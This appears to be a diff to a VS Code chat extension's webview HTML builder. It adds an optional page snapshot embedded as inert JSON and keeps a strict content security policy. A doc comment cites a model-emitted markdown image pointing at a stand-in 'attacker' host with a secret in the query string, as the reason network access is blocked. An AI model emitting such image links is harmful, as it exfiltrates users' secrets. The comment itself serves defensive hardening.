@@ -1,6 +1,8 @@
 import * as fs from 'fs';
 import * as vscode from 'vscode';
 import { escapeHtml } from '../core/text/escapeHtml';
+import { jsonInScript } from '../core/text/jsonInScript';
+import type { PageSnapshot } from '../shared/protocol';
 import { webviewStrings } from './webviewStrings';
 
 /** 128 random bits from the platform's secure source: a CSP nonce must not be guessable. */
@@ -29,9 +31,10 @@ function bootScript(extensionUri: vscode.Uri): string {
  * from our media folder and data: URIs (attached images' thumbnails, images tools returned), a worker only from a blob
  * the page itself makes, and no network at all: a model's
  * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
- * in `data-strings` (escaped: a translation is text, never markup).
+ * in `data-strings` (escaped: a translation is text, never markup). `snapshot`, the state the
+ * page draws first, rides as JSON data (never run: `application/json`) for boot.ts to read.
  */
-export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): string {
+export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri, snapshot?: PageSnapshot): string {
   const n = nonce();
   const script = webview.asWebviewUri(vscode.Uri.joinPath(extensionUri, 'dist', 'webview.js'));
   const style = webview.asWebviewUri(vscode.Uri.joinPath(extensionUri, 'dist', 'webview.css'));
@@ -57,7 +60,12 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
 <meta charset="UTF-8">
 <meta http-equiv="Content-Security-Policy" content="${csp}">
 <meta name="viewport" content="width=device-width, initial-scale=1.0">
-<script nonce="${n}">${bootScript(extensionUri)}</script>
+${
+  snapshot
+    ? `<script type="application/json" id="parley-snapshot">${jsonInScript(snapshot)}</script>
+`
+    : ''
+}<script nonce="${n}">${bootScript(extensionUri)}</script>
 <link href="${style}" rel="stylesheet">
 <title>Parley</title>
 </head>
